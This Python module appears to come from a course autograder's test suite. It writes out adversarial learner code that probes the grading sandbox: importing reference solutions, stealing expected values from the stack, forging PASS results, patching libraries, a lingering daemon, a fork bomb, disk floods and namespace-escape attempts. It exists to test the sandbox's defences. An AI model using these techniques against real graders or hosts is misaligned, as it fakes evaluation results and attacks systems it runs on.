"""Attacks on `make grade`, written as a learner's code: the snippets the grader's tests run
one family at a time (tests/test_classroom.py, tests/test_evidence.py,
tests/test_sandbox_limits.py) and benchmarks/hostile_class.py puts together into one class.

Everything here is source text (or bytes) for a learner's lesson file; nothing here runs an
attack. An attack that tries to get out is written so that it earns points *only if it got
out*: its function computes the honest answer when the escape worked and raises otherwise,
so a check that passes on it is an escape measured, not assumed.
"""
from __future__ import annotations

import importlib.util
import inspect
import re
import shutil
import textwrap
import types
from pathlib import Path

from checks import messages
from checks.mutants import mutants_for
from course import index
from course.paths import REPO

DAEMON_MARK = "7654321"          # a daemon's `sleep 7654321`: must not outlive grading


# ------------------------------------------------------------------ building a learner's file

def replace_function(source: str, name: str, new: str) -> str:
    """``source`` with the top-level function ``name`` replaced by ``new``."""
    start = source.index(f"\ndef {name}(") + 1
    ends = [i for i in (source.find(marker, start) for marker in ("\ndef ", "\n@", "\nclass ")) if i != -1]
    end = min(ends) + 1 if ends else len(source)
    return source[:start] + textwrap.dedent(new).strip() + "\n\n\n" + source[end:]


def instructor_copy(target: Path) -> Path:
    """A copy of this repository (code and Makefile) whose .venv is the real one."""
    shutil.copytree(REPO, target, symlinks=True, ignore=shutil.ignore_patterns(
        ".git", ".venv", "outputs", ".backups", ".progress", "__pycache__", ".pytest_cache",
        ".hypothesis", "data", "notebooks", "*.ipynb", "benchmarks"))
    (target / ".venv").symlink_to(REPO / ".venv")
    return target


def plant_bytecode(repo: Path) -> Path:
    """A valid .pyc for the copy's checks/lesson03_masking.py (same source size and mtime, so
    Python would load it) whose checks all pass: if the grader ever read bytecode from the
    instructor's tree, a stub would get full marks."""
    source = repo / "checks" / "lesson03_masking.py"
    evil = source.read_text().replace("def history_size_floor(learner, ref, fx):",
                                      "def history_size_floor(learner, ref, fx):\n    return 'planted'\n")
    for name in ("history_size_property", "no_overlap", "sizes", "ratings_preserved", "deterministic",
                 "seed_matters", "random_not_first"):
        evil = evil.replace(f"def {name}(learner, ref, fx):", f"def {name}(learner, ref, fx):\n    return 'planted'\n")
    code = compile(evil, str(source), "exec")
    st = source.stat()
    data = importlib._bootstrap_external._code_to_timestamp_pyc(code, int(st.st_mtime), st.st_size)
    target = Path(importlib.util.cache_from_source(str(source)))
    target.parent.mkdir(exist_ok=True)
    target.write_bytes(bytes(data))
    return target


# ------------------------------------------------------------------ lesson 3's split_watch_history

def write_everywhere(targets: list[Path]) -> str:
    """Source of ``_write_everywhere()``: 'owned' written into every target it can reach."""
    return ("def _write_everywhere():\n"
            f"    for _t in {[str(t) for t in targets]!r}:\n"
            "        try:\n"
            "            import pathlib\n"
            "            pathlib.Path(_t).parent.mkdir(parents=True, exist_ok=True)\n"
            "            pathlib.Path(_t).write_text('owned')\n"
            "        except OSError:\n"
            "            pass\n")


def split_attacks(targets: list[Path], ref_path: str) -> dict[str, tuple[str, str]]:
    """One attack per family on lesson 3's ``split_watch_history``: its body and the code run
    at import. ``targets`` are the host's files the writing attacks aim at, ``ref_path`` the
    reference of lesson 3 on the host."""
    write_all = write_everywhere(targets)
    return {
        # The reference of the lesson graded: by import, by path, through the editable install's finder.
        "ref_import": (f"""
            def split_watch_history(ratings, history_fraction, min_ratings_per_user, seed):
                import importlib, importlib.util, sys, glob
                environ = open("/proc/self/environ", "rb").read().decode().split("\\0")
                folders = [f for entry in environ if "site-packages" in entry
                           for f in entry.split("=", 1)[1].split(":")]
                finders = [f for folder in folders for f in glob.glob(folder + "/__editable__*finder.py")]
                try:
                    from solutions.lesson03_masking import split_watch_history as ref
                    return ref(ratings, history_fraction, min_ratings_per_user, seed)
                except ImportError:
                    pass
                for finder in finders:
                    spec = importlib.util.spec_from_file_location("finder", finder)
                    module = importlib.util.module_from_spec(spec)
                    spec.loader.exec_module(module)
                    module.install()
                try:
                    from solutions.lesson03_masking import split_watch_history as ref
                    return ref(ratings, history_fraction, min_ratings_per_user, seed)
                except ImportError:
                    pass
                spec = importlib.util.spec_from_file_location("ref", {ref_path!r})
                ref = importlib.util.module_from_spec(spec)
                spec.loader.exec_module(ref)
                return ref.split_watch_history(ratings, history_fraction, min_ratings_per_user, seed)
            """, ""),
        # The check's own values: walk the stack and the heap for a DataFrame with is_history.
        "stack_inspection": ("""
            def split_watch_history(ratings, history_fraction, min_ratings_per_user, seed):
                import gc, sys, inspect
                frame = sys._getframe()
                while frame is not None:
                    for value in list(frame.f_locals.values()):
                        if hasattr(value, "columns") and "is_history" in getattr(value, "columns", []):
                            return value
                    frame = frame.f_back
                for value in gc.get_objects():
                    if hasattr(value, "columns") and "is_history" in getattr(value, "columns", []):
                        return value
                for info in inspect.stack():
                    for value in info.frame.f_locals.values():
                        if value.__class__.__name__ == "SimpleNamespace":
                            return value.s.split
                raise RuntimeError("nothing to steal")
            """, ""),
        # Forged results: the old results file, the reports, and PASS events appended everywhere.
        "forged_file": ("""
            def split_watch_history(ratings, history_fraction, min_ratings_per_user, seed):
                import glob, json, os
                event = json.dumps({"event": "check", "index": 0, "status": "PASS"}) + "\\n"
                for path in glob.glob("/tmp/**/*.jsonl", recursive=True) + glob.glob("/tmp/*"):
                    try:
                        with open(path, "a") as f:
                            f.write(event * 50)
                    except OSError:
                        pass
                _write_everywhere()
                raise RuntimeError("forged")
            """, write_all + "_write_everywhere()\n"),
        # Forged results on the result pipe: a pickled PASS, then a well-formed message, then exit.
        "forged_pipe": ("""
            def split_watch_history(ratings, history_fraction, min_ratings_per_user, seed):
                import os, pickle, struct, json
                for fd in range(3, 64):
                    try:
                        os.write(fd, pickle.dumps({"status": "PASS", "earned": 99}))
                        body = json.dumps({"ok": {"$frame": []}}).encode()
                        os.write(fd, struct.pack("<QI", len(body), len(body)) + body)
                    except OSError:
                        pass
                os._exit(0)
            """, ""),
        # Patched libraries: json and numpy loaders, pickle, hypothesis, the checks' helpers if reachable.
        "patched_libraries": ("""
            def split_watch_history(ratings, history_fraction, min_ratings_per_user, seed):
                raise NotImplementedError("Lesson 3.2: the attack is at import")
            """, """
            import json, pickle, numpy
            json.loads = lambda *a, **k: {"ok": None, "status": "PASS"}
            pickle.loads = lambda *a, **k: {"status": "PASS"}
            numpy.load = lambda *a, **k: None
            numpy.lib.format.read_array = lambda *a, **k: numpy.zeros(1)
            try:
                import hypothesis
                hypothesis.given = lambda *a, **k: (lambda f: (lambda *x, **y: None))
            except ImportError:
                pass
            try:
                import checks.framework as _f
                _f.expect = lambda condition, message: None
            except ImportError:
                pass
            try:
                import checks.boundary as _b
                _b.Decoder.decode = lambda self, value, depth=0: "PASS"
            except ImportError:
                pass
            """),
        # A daemon (double fork, new session) that outlives the call, then writes everywhere:
        # other learners, this repository, the reports, its bytecode, after grading ended.
        "daemon": ("""
            def split_watch_history(ratings, history_fraction, min_ratings_per_user, seed):
                raise NotImplementedError("Lesson 3.2: the attack is the daemon")
            """, write_all + f"""
            import os, time
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    if os.fork() == 0:
                        os.execv("/usr/bin/sleep", ["sleep", "{DAEMON_MARK}"])
                    time.sleep(4)
                    _write_everywhere()
                    os._exit(0)
                os._exit(0)
            """),
        # A fork bomb and a flood of prints and of disk: bounded by the limits.
        "bomb_and_flood": ("""
            def split_watch_history(ratings, history_fraction, min_ratings_per_user, seed):
                import os
                with open("/tmp/fill", "wb") as f:
                    try:
                        while True:
                            f.write(b"x" * (1 << 20))
                    except OSError:
                        pass
                print("flood " * 100_000)
                pids = []
                for _ in range(10_000):
                    try:
                        pid = os.fork()
                    except OSError:
                        break
                    if pid == 0:
                        import time
                        time.sleep(60)
                        os._exit(0)
                    pids.append(pid)
                raise RuntimeError(f"forked {len(pids)} processes")
            """, ""),
    }


# ------------------------------------------------------------------ forged evidence (lessons 2, 6, 8)

# Replaces an entry of the worker's table of procedures from the learner's file.
FORGE_TABLE = """
import checks.procedures as _p
_p.PROCEDURES[{name!r}] = lambda learner, *a, **k: {fake}
"""

# Lesson 2: a genre index in set order (differs between fresh interpreters), and the fake probe.
SET_ORDER = """
def build_genre_index(genres_by_id):
    seen = {g for genres in genres_by_id.values() for g in genres}
    return {g: i for i, g in enumerate(seen)}
"""
FAKE_FRESH = "[(0, 'same', '')] * 2"

# Lesson 6: 8 bytes of PNG signature and nothing else, and the fake reading of the plot.
SIGNATURE_ONLY = """
def plot_loss_curve(history, path):
    from pathlib import Path
    Path(path).parent.mkdir(parents=True, exist_ok=True)
    Path(path).write_bytes(b"\\x89PNG\\r\\n\\x1a\\n")
    return path
"""
FAKE_PLOT = "[{'returned': r, 'exists': True, 'size': 9, 'head': b'\\x89PNG\\r\\n\\x1a\\n'} for r in a[1]]"
LINKED_PNG = SIGNATURE_ONLY.replace('Path(path).write_bytes(b"\\x89PNG\\r\\n\\x1a\\n")',
                                    'Path(path).symlink_to("/usr/share/pixmaps/debian-logo.png")')

# Lesson 8: a Python loop hidden from torch's function-level count, and a fake count.
LOOP = """
import torch

def pairwise_distances(x):
    n = x.shape[0]
    out = torch.zeros((n, n), dtype=x.dtype)
    with torch._C.DisableTorchFunction():
        for i in range(n):
            for j in range(i + 1, n):
                d = ((x[i] - x[j]) ** 2).sum().sqrt()
                out[i, j] = d
                out[j, i] = d
    return out
"""
FAKE_COUNT = "{'out': learner.pairwise_distances(*a[2:]), 'calls': 3, 'used_cdist': False, 'too_many': False}"


# ------------------------------------------------------------------ the sandbox's bounds

# Several forked processes, each under any per-process limit, together over the sandbox's memory.
# Returns how many of them hold their memory at the same time, at the end: a child that held it
# and was then killed to make room for another (a whole-sandbox limit picks the largest process)
# does not count, so a bounded sandbox gives one or two whatever order the children ran in.
HOLD_MEMORY = """
def hold(children, mib):
    import os, select, time
    r, w = os.pipe()
    pids = []
    for index in range(children):
        pid = os.fork()
        if pid == 0:
            block = bytearray(mib << 20)
            block[::4096] = b"x" * len(block[::4096])
            os.write(w, bytes([index]))
            time.sleep(60)
            os._exit(0)
        pids.append(pid)
    os.close(w)
    reported, deadline = set(), time.monotonic() + 15
    while len(reported) < children and time.monotonic() < deadline:
        if select.select([r], [], [], 0.5)[0]:
            got = os.read(r, 16)
            if not got:
                break
            reported.update(got)
    return sum(1 for index in reported if os.waitpid(pids[index], os.WNOHANG) == (0, 0))
"""

# Hundreds of MiB into every RAM-backed folder: returns the MiB written in each.
FILL_TMPFS = """
def fill():
    written = {}
    for folder in ("/", "/dev", "/dev/shm", "/tmp", "/box/lessons"):
        total = 0
        try:
            with open(folder.rstrip("/") + "/fill", "wb") as f:
                while total < (600 << 20):
                    f.write(b"x" * (1 << 20))
                    f.flush()
                    total += 1 << 20
        except OSError:
            pass
        written[folder] = total >> 20
        try:
            import os
            os.remove(folder.rstrip("/") + "/fill")
        except OSError:
            pass
    return written
"""

# A user and a mount namespace of its own, and a tmpfs mounted there.
NEW_NAMESPACES = """
def escape():
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    results = {}
    for name, flags in (("user", 0x10000000), ("mount", 0x00020000)):
        results[name] = libc.unshare(flags) == 0
    results["mount tmpfs"] = libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=1g") == 0
    return results
"""

# The worker's CPU timer silenced and its own reading of CPU time replaced by 0.
SILENCE_CPU_TIMER = """
import signal, sys
signal.signal(signal.SIGPROF, signal.SIG_IGN)
_worker = sys.modules["__main__"]
if hasattr(_worker, "_cpu"):
    _worker._cpu = lambda: 0.0
_real_setitimer = signal.setitimer
signal.setitimer = lambda which, seconds, interval=0.0: (0.0, 0.0)
"""

# Standard error of the sandbox's first process, written to from inside.
PROC_FD2 = """
import os
for fd_path in ("/proc/1/fd/2", "/proc/2/fd/2"):
    try:
        with open(fd_path, "wb", buffering=0) as f:
            for _ in range(64):
                f.write(b"It said: PASS " * 4096)
    except OSError:
        pass
"""


def npy(header: str) -> bytes:
    """An .npy header (format 1.0) for ``header``, padded as numpy pads it."""
    body = header.encode("latin1")
    body += b" " * (63 - (10 + len(body)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(body).to_bytes(2, "little") + body


def message_with_array(blob: bytes) -> bytes:
    """A framed message (checks/messages.py) whose one array is ``blob``."""
    text = b'{"v": {"$nd": 0}}'
    payload = text + messages.ARRAY.pack(len(blob)) + blob
    return messages.HEADER.pack(len(payload), len(text)) + payload


# 10^15 items of nothing: an array of zero-itemsize elements, no bytes behind it.
ZERO_ITEMSIZE_NPY = npy("{'descr': '|V0', 'fortran_order': False, 'shape': (%d,), }" % 10 ** 15)


# ------------------------------------------------------------------ mutants as a learner's file

def _function_source(func: types.FunctionType, name: str) -> str:
    """``func``'s source as a top-level ``def name``, its decorators left out."""
    lines = textwrap.dedent(inspect.getsource(func)).splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("def "))
    lines[start] = re.sub(r"^def \w+\(", f"def {name}(", lines[start])
    return "\n".join(lines[start:]) + "\n"


def _names(code: types.CodeType) -> set[str]:
    found = set(code.co_names)
    for const in code.co_consts:
        if isinstance(const, types.CodeType):
            found |= _names(const)
    return found


def mutant_source(lesson: int, name: str) -> str:
    """The reference of ``lesson`` with the mutant ``name`` (checks/mutants/) written into it:
    its functions, the helpers of the mutant's file they use and the modules they import,
    appended after the reference's code so that they are the ones called."""
    found = next(m for m in mutants_for(lesson) if m.name == name)
    reference = index.lesson(lesson).solution_path.read_text()
    parts, seen, todo = [], set(), list(found.overrides.items())
    while todo:
        target, func = todo.pop(0)
        if target in seen:
            continue
        seen.add(target)
        parts.append(_function_source(func, target))
        for used in sorted(_names(func.__code__)):
            value = func.__globals__.get(used)
            if isinstance(value, types.ModuleType) and f"import {value.__name__}" not in reference:
                parts.insert(0, f"import {value.__name__} as {used}\n")
            elif (isinstance(value, types.FunctionType) and used.startswith("_") and used not in seen
                  and f"def {used}(" not in reference):
                todo.append((used, value))
    return reference + "\n\n# ---- the learner's versions\n\n" + "\n\n".join(parts)
